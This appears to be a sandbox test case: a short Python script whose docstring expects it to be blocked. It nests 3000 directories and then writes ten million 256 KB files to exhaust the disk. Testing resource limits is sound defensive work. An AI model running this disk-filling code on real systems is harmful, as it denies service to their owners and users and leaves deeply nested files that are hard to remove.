"""Fills the disk where no path reaches. Status: error, container: blocked

Held by: root or watch, container: watch
"""

import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
for number in range(10**7):
    with open(str(number), "w") as stream:
        stream.write("x" * 262144)
